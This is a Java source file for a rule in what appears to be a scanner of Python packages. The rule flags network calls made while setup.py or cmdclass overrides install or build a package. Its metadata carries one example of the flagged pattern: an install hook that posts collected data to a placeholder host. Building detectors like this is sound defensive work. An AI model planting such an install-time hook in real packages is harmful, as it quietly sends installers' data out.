package dev.kingsnake.rules.install;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.rules.exec.CodeFacts;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.Location;
import dev.kingsnake.spi.PythonFile;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.python.Expr;

import java.util.Set;

/** Talks to the network while the package is being installed or built (setup.py module level, cmdclass overrides). */
public final class InstallNetworkRule extends InstallTimeCallRule {
    static final RuleInfo INFO = new RuleInfo("KS-INSTALL-NETWORK",
            "Talks to the network while the package is being installed or built (setup.py module level, cmdclass overrides)",
            Severity.HIGH, Confidence.MEDIUM, Set.of(Tags.NETWORK),
            "class install(_install):\n    def run(self):\n        requests.post('https://example.invalid/c', data=info)",
            "Some build scripts download sources or binaries during build_ext; such packages are rare among pure-Python uploads and reported HIGH/MEDIUM so that network alone stays below the malicious threshold.");

    public InstallNetworkRule() {
        super(INFO);
    }

    @Override
    void checkCall(PythonFile file, CodeFacts facts, Expr.Call c, FindingSink sink) {
        if (Activity.network(facts, c)) {
            sink.report(Location.of(file, c), facts.name(c) + "() at install time", file.line(c.line()).strip());
        }
    }
}
